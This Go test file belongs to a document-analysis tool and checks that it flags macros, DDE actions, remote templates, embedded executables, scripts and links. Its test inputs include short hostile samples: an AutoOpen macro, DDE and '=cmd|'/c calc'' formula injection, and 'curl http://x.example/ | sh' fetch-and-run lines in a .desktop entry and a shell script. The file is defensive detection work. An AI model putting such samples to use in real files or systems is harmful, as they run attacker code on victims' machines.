package explain

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/showcause/showcause"
	"github.com/showcause/showcause/filetype"
)

func of(op, name, content string) (out []string) {
	src := showcause.Bytes(content)
	l := showcause.Layer{Source: src}
	if op != "" {
		l.Trail = showcause.Trail{{Op: op, Name: name}}
	}
	Layer(l, filetype.Detect(src, src), func(f Fact) { out = append(out, f.Kind.String()+": "+f.Text) })
	return out
}

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func TestLayer(t *testing.T) {
	const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm?a=1&amp;b=2" TargetMode="External"/>` +
		`<Relationship Id="2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/1.png"/><Relationship Id="3" Type="r/hyperlink" Target="https://y.example/" TargetMode="External"/></Relationships>`
	for _, c := range []struct {
		op, name, content string
		want              []string
	}{
		{"vba.source", "Module1", "Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"\r\n", []string{"macros: Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"", "links: http://x.example/a.exe"}},
		{"pdf.actions", "", "URI https://x.example/\n", []string{"actions: URI https://x.example/", "links: https://x.example/"}},
		{"zip.deflate", "word/_rels/document.xml.rels", rels, []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2", "links: https://y.example/"}},
		{"zip.deflate", "word/_RELS/document.xml.RELS", wide(rels), []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2", "links: https://y.example/"}},
		{"", "", `<?xml version="1.0"?><pkg:package xmlns:pkg="p"><pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData><Relationships xmlns="r"><Relationship Id="1" Type="r/frame" Target="\\h\s\t.dotm" TargetMode="external"/></Relationships></pkg:xmlData></pkg:part></pkg:package>`, []string{`external references: frame \\h\s\t.dotm`}},
		{
			"zip.deflate", "word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x.exe "/k" </w:instrText></w:r><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr=" INCLUDEPICTURE \\h\p.png "/><w:fldSimple w:instr="PAGE"/></w:document>`,
			[]string{`actions: DDEAUTO c:\\x.exe "/k"`, `external references: INCLUDEPICTURE \\h\p.png`},
		},
		{"zip.deflate", "xl/externalLinks/externalLink1.xml", `<?xml version="1.0"?><externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`, []string{"actions: DDE cmd /c calc"}},
		{
			"zip.deflate", "content.xml", `<?xml version="1.0"?><o:d xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="s"><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/><draw:image xlink:href="file://h/p.png"/><text:section-source xlink:href="../x.odt"/><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/></o:d>`,
			[]string{"external references: image file://h/p.png", "external references: section-source ../x.odt", "actions: dom:load vnd.sun.star.script:Standard.M.Main", "links: file://h/p.png"},
		},
		{"", "", `<?xml version="1.0"?><office:document><ooo:source-code>Sub Main&#10;End Sub</ooo:source-code></office:document>`, []string{"macros: Sub Main\nEnd Sub"}},
		{"rtf.text", "", "a text\nINCLUDEPICTURE \"x.png\"\n", []string{`external references: INCLUDEPICTURE "x.png"`}},
		{"zip.deflate", "word/embeddings/oleObject1.bin", "abc", []string{"embedded files: embedded object"}},
		{"ole1.file", "a.exe", "abc", []string{"embedded files: embedded file"}},
		{"mime.base64", "report.exe", "abc", []string{"embedded files: attachment"}},
		{"mime.7bit", "", "see (http://x.example/a_(b)), or ftp://y.example.\nhttp://x.example/a_(b)", []string{"links: http://x.example/a_(b))", "links: ftp://y.example", "links: http://x.example/a_(b)"}},
		{"", "", "<html><body><script type='a'>alert(1)</script><a href=\"https&#58;//x.example/?a&amp;b\">x</a><a href='javascript:f(&quot;2&quot;)'>", []string{"links: https://x.example/?a&b"}},
		{"html.script", "", "alert(1)", []string{"scripts: alert(1)"}},
		{"html.attributes", "", "f(2)\njavascript:g()\n", []string{"scripts: f(2)\njavascript:g()"}},
		{"screnc.script", "", "x = 1", []string{"scripts: x = 1"}},
		{"encoded.command", "", wide("iex 1 + 1 + 1 + 1"), []string{"scripts: iex 1 + 1 + 1 + 1"}},
		{"encoded.base64", "", "a script that is encoded", []string{"scripts: a script that is encoded"}},
		{"encoded.base64", "", "MZ\x00\x01\x02\x03\xff\xfe program", []string{"embedded files: encoded in a text"}},
		{"card.base64", "", "\x00\x01\x02\xff\xfe", []string{"embedded files: attachment"}},
		{"jpeg.rest", "", "\n", nil},
		{"uuencode.begin", "a.exe", "abc", []string{"embedded files: attachment"}},
		{"view.html.data", "", "MZ\x00\x01\x02\xff", []string{"embedded files: in an address of a page (data:)"}},
		{"", "", "[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\s\\x.ico\r\n", []string{`external references: IconFile=\\10.0.0.1\s\x.ico`}},
		{"", "", "<?xml version=\"1.0\"?><a><url>\\\\10.0.0.1\\s</url><b c='\\\\d\\\\w'/></a>", []string{`links: \\10.0.0.1\s`}},
		{"", "", "a,b\r\n=cmd|'/c calc'!A1,1\r\n-1|'2',\r\n", []string{"actions: =cmd|'/c calc'!A1"}},
		{"", "", "WEB\r\n1\r\nhttp://x.example/a\r\n", []string{"external references: query http://x.example/a", "links: http://x.example/a"}},
		{"", "", "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")\r\nC;X1;Y2;K1\r\nE\r\n", []string{"macros: NN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")"}},
		{"", "", "ID;PWXL\r\nC;X1;Y1;K3;EA1+A2\r\nE\r\n", nil},
		{"png.rest", "", "\x00\x01\x02\xff\xfe", []string{"embedded files: behind the end of a picture"}},
		{"lnk.text", "", "..\\cmd.exe\n/c x", []string{"actions: ..\\cmd.exe\n/c x"}},
		{
			"", "", "<html><script\nsrc=//x.example/a.js></script><img alt='src=\"http://no.example/\"' src = 'https://x.example/p&#46;png'><form action=\"https://y.example/?a\"><link href=local.css><iframe src='file:\\\\h\\s' data-src='http://n.example/'>",
			[]string{"external references: script //x.example/a.js", "external references: img https://x.example/p.png", "external references: form https://y.example/?a", "links: http://no.example/", "links: https://x.example/p.png", "links: https://y.example/?a", "links: http://n.example/"},
		},
		{"", "", "<?xml version=\"1.0\"?><svg><image xlink:href=\"http://x.example/a.png\"/><use href='#a'/></svg>", []string{"external references: image http://x.example/a.png", "links: http://x.example/a.png"}},
		{
			"", "", "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file://h.example/s/a.exe\r\nIconFile=\\\\h.example\\i.ico\r\nIconIndex=1\r\n",
			[]string{"actions: URL=file://h.example/s/a.exe", "external references: IconFile=\\\\h.example\\i.ico", "links: file://h.example/s/a.exe"},
		},
		{"", "", "[Desktop Entry]\nName=x\nExec=sh -c 'curl http://x.example/ | sh'\nIcon=a\n", []string{"actions: Exec=sh -c 'curl http://x.example/ | sh'", "links: http://x.example/"}},
		{"", "", "BEGIN:VCALENDAR\r\nATTACH;FMTTYPE=a/b:http://x.exam\r\n ple/a.doc\r\nATTACH;ENCODING=BASE64:QUJD\r\nEND:VCALENDAR\r\n", []string{"external references: ATTACH;FMTTYPE=a/b:http://x.example/a.doc", "links: http://x.example/a.doc"}},
		{
			"mime.7bit", "", "BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body><a href=\"http://y.exam\r\n ple/\">\r\nATTACH:https://x.example/a.exe\r\nEND:VCALENDAR\r\n",
			[]string{"external references: ATTACH:https://x.example/a.exe", "links: http://y.example/", "links: https://x.example/a.exe"},
		},
		{"", "", "BEGIN:VCARD\r\nVERSION:3.0\r\nURL:https://x.example/\r\nEND:VCARD\r\n", []string{"links: https://x.example/"}},
		{"", "", "Visithttp://x.example/ svn+http://y.example/ sftp://z.example/ " + wide("wordhttps://w.example/") + "\x00\x00", []string{"links: http://x.example/", "links: svn+http://y.example/", "links: sftp://z.example/", "links: https://w.example/"}},
		{"", "", "{\\rtf1{\\*\\template http://x.example/t.dotm}{\\*\\template }}", []string{"external references: template http://x.example/t.dotm", "links: http://x.example/t.dotm"}},
		{"", "", "<html><head><meta http-equiv=Refresh content=\"0; url='https://x.example/'\"><meta name=a content='b=c'>", []string{"actions: refresh https://x.example/", "links: https://x.example/"}},
		{"mime.8bit", "", "From: a@x.example\r\nTo: b@x.example\r\nSubject: s\r\nMIME-Version: 1.0\r\n\r\na\r\n", []string{"embedded files: attached mail"}},
		{"zip.deflate", "Invoice.VBS", "MsgBox 1\r\n", []string{"scripts: MsgBox 1"}},
		{"zip.deflate", "notes.txt", "PowerShell is a shell\r\n", nil},
		{"", "", "Set x = CreateObject(\"WScript.Shell\")\r\n", []string{"scripts: Set x = CreateObject(\"WScript.Shell\")"}},
		{"html.script", "", "\n <ooo:libraries xmlns:ooo=\"http://openoffice.org/2004/office\"/>", nil},
		{"html.script", "", "<ooo:libraries xmlns:ooo=\"a\">x</ooo:libraries>", []string{"scripts: <ooo:libraries xmlns:ooo=\"a\">x</ooo:libraries>"}},
		{"", "", "<?xml version=\"1.0\"?><a xmlns=\"http://www.w3.org/1999/xhtml\" b=\"smb://h/s\"/>", []string{"links: smb://h/s"}},
		{"cfb.stream", "WordDocument", "\x01\x02" + wide("HYPERLINK \"http://w.example/ä\"") + "\x00\x00", []string{"links: http://w.example/\xc3\xa4"}},
		{"zip.deflate", "Basic/Standard/Module1.xml", `<?xml version="1.0"?><script:module xmlns:script="x" script:name="a">Sub Main&#10;  x = &quot;1&quot;
End Sub</script:module>`, []string{"macros: Sub Main\n  x = \"1\"\nEnd Sub"}},
		{"", "", "nothing of it: a://, :// and 1://x are none", nil},
		{"", "", "#!/bin/sh\ncurl http://x.example/p | sh\n", []string{"scripts: #!/bin/sh\ncurl http://x.example/p | sh", "links: http://x.example/p"}},
	} {
		if got := of(c.op, c.name, c.content); !slices.Equal(got, c.want) {
			t.Errorf("%s %s:\n%q, want\n%q", c.op, c.name, got, c.want)
		}
	}
}

// Digits in the contents of a PDF are no scripts; addresses in them are told.
func TestDrawn(t *testing.T) {
	for op, want := range map[string]string{"pdf.stream": "links", "mime.base64": "scripts links"} {
		src, got := showcause.Bytes("a title, http://x.example/"), []string{}
		Layer(showcause.Layer{Source: src, Trail: showcause.Trail{{Op: op}, {Op: "encoded.hex"}}}, filetype.Text, func(f Fact) { got = append(got, f.Kind.String()) })
		if strings.Join(got, " ") != want {
			t.Errorf("%s: %q, want %s", op, got, want)
		}
	}
}

// What is told of one layer is bounded, and it says where something was left out.
func TestBounds(t *testing.T) {
	var b strings.Builder
	for i := range 3 * maxFacts {
		fmt.Fprintf(&b, "http://x.example/%d\n", i)
	}
	if got := of("", "", b.String()); len(got) != maxFacts {
		t.Errorf("%d links", len(got))
	}
	src := showcause.Bytes(strings.Repeat("x", MaxText+1))
	Layer(showcause.Layer{Source: src, Trail: showcause.Trail{{Op: "vba.source"}}}, filetype.Text, func(f Fact) {
		if !f.Cut || len(f.Text) != MaxText {
			t.Errorf("%d bytes, cut %v", len(f.Text), f.Cut)
		}
	})
}

// FuzzLayer: whatever a layer holds, facts are of known kinds and bounded.
func FuzzLayer(f *testing.F) {
	for _, s := range []string{"http://a.example/", "<script>x</script>", "<?xml?><Relationship TargetMode='External' Target='x'/>", "<script:module a>x", wide("http://a")} {
		for _, name := range []string{"", "a.rels", "Basic/a.xml"} {
			f.Add(name, s)
		}
	}
	f.Fuzz(func(t *testing.T, name, s string) {
		n := 0
		for _, op := range []string{"zip.deflate", "vba.source"} {
			Layer(showcause.Layer{Source: showcause.Bytes(s), Trail: showcause.Trail{{Op: op, Name: name}}}, filetype.HTML, func(f Fact) {
				if n++; f.Kind >= kinds || f.Text == "" || len(f.Text) > MaxText || n > 2*len(Kinds())*maxFacts {
					t.Errorf("%d: %+v", n, f)
				}
			})
		}
	})
}
